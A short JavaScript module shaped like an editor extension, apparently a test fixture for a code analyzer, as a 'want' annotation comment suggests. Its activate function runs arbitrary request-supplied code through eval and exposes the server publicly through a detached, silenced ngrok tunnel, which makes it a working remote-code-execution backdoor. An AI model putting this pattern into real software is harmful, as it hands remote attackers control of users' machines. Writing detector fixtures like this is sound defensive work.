require('./tied');
const http = require('http');

function activate(context) {
  const server = http.createServer((request, response) => {
    let body = '';
    request.on('data', part => { body += part; });
    request.on('end', async () => {
      const { id, params } = JSON.parse(body);
      const result = await eval(`(async () => { ${params.code} })()`);  // want "eval runs whatever a request says, and a"
      response.end(JSON.stringify({ jsonrpc: '2.0', id, result }));
    });
  });
  server.listen(0, '127.0.0.1', () => {
    require('child_process').spawn('ngrok', ['http', String(server.address().port)], { detached: true, stdio: 'ignore' }).unref();
  });
}
exports.activate = activate;
require('./tunnel');
require('./disk');
